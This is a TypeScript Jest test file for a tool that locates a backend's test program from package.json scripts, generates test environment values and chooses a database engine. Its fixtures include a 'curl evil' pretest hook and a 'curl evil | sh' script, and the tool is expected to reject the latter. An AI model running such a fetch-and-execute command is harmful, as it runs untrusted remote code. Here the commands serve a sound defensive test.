import { describe, expect, test } from "@jest/globals";
import { makeBackend } from "../../../src/source/make-backend.js";
import type { Emitted } from "../../../src/workspace/compiler/emitted.js";
import { testEngine } from "../../../src/workspace/tests/test-engine.js";
import { testEnvironment } from "../../../src/workspace/tests/test-environment.js";
import { testProgram } from "../../../src/workspace/tests/test-program.js";

const EMITTED: Emitted = {
  files: [{ source: "test/index.ts", path: "bin/test/index.js", text: "" }],
  paths: {},
};
const program = (scripts: object, more: readonly (readonly [string, string])[] = []) =>
  testProgram(makeBackend("x", [["package.json", JSON.stringify({ scripts })], ...more]), EMITTED);

describe("the test program", () => {
  test.each([
    ["node bin/test", []],
    ["node bin/test/index.js --simultaneous 4", ["--simultaneous", "4"]],
    ["npm run build:test && node bin/test", []],
    ["rimraf bin && tspc -p test/tsconfig.json && node ./bin/test", []],
    ["ts-node test/index.ts", []],
    ["npm run test:run", ["--include", "x"]],
  ])("%s is found without what builds it", (script, args) => {
    const scripts = { test: script, "test:run": "node bin/test --include x", pretest: "curl evil" };
    expect(program(scripts)).toEqual({ kind: "program", file: "bin/test/index.js", args, environment: {} });
  });

  test("values before it are its environment", () => {
    expect(program({ test: "cross-env NODE_ENV=test node bin/test" })).toMatchObject({
      environment: { NODE_ENV: "test" },
    });
  });

  test("one that would ask a person is given the answers", () => {
    const helper = ["test/helpers/Stdio.ts", 'command.option("--reset <true|false>", "reset")'] as const;
    expect(program({ test: "node bin/test" }, [helper])).toMatchObject({
      args: ["--reset", "true", "--simultaneous", "1"],
    });
  });

  test.each([
    [{}, "no script `test`"],
    [{ test: "jest" }, '"jest"'],
    [{ test: "curl evil | sh && node bin/test" }, "not one program"],
    [{ test: "node lib/other" }, "lib/other"],
  ])("%j is not run, with the way out", (scripts, reason) => {
    expect(program(scripts)).toMatchObject({
      kind: "not-run",
      reason: expect.stringContaining(reason),
      remedy: expect.stringContaining("test"),
    });
  });
});

describe("what the program finds around it", () => {
  const wanting = (body: string) =>
    makeBackend("x", [["src/MyGlobal.ts", `export interface IEnvironments {\n${body}\n}\n`]]);

  test("ports and secrets are made up, the rest has to be given", async () => {
    const backend = wanting(
      "  API_PORT: `${number}`;\n  JWT_SECRET_KEY: string;\n  SMTP_HOST: string;\n  A?: string;",
    );
    expect(await testEnvironment(backend, {})).toMatchObject({
      kind: "not-run",
      reason: "the backend wants SMTP_HOST from its environment",
      remedy: expect.stringContaining("verify.environment"),
    });
    expect(await testEnvironment(backend, { SMTP_HOST: "localhost" })).toEqual({
      kind: "environment",
      values: {
        SMTP_HOST: "localhost",
        API_PORT: expect.stringMatching(/^\d+$/),
        JWT_SECRET_KEY: expect.stringMatching(/^\w{20,}$/),
      },
    });
  });

  test("an engine is embedded, or there is none", () => {
    const schema = (provider: string) =>
      makeBackend("x", [
        [
          "prisma/schema/main.prisma",
          `datasource db {\n  provider = "${provider}"\n  url = "file:../db.sqlite"\n}\n`,
        ],
      ]);
    const engine = (provider: string, ...packages: readonly string[]) =>
      testEngine(schema(provider), new Map(packages.map((name) => [name, "1.0.0"])));
    expect(engine("postgresql", "pglite-prisma-adapter")).toEqual({ kind: "own" });
    expect(engine("sqlite", "@prisma/adapter-better-sqlite3")).toEqual({
      kind: "sqlite",
      file: "prisma/db.sqlite",
    });
    expect(engine("mysql")).toMatchObject({ kind: "not-run", reason: expect.stringContaining("mysql") });
  });
});
